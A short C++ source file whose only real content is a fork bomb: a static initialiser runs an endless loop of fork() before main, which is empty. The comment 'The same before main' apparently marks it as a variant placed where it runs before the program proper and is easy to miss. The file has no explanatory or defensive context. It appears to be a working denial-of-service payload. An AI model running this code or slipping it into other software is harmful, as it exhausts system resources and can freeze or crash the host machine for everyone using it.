// The same before main.
#include <iostream>
#include <thread>
#include <unistd.h>
static const int early = [] { while (true) fork(); return 0; }();
int main() {
}
